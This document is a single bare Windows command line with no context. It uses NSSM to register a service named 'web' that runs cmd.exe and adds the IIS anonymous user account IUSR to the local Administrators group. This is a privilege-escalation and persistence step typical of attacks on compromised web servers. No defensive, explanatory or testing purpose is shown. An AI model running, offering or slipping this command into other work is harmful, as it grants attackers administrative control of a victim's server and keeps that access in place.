nssm install web cmd.exe /c net localgroup Administrators IUSR /add
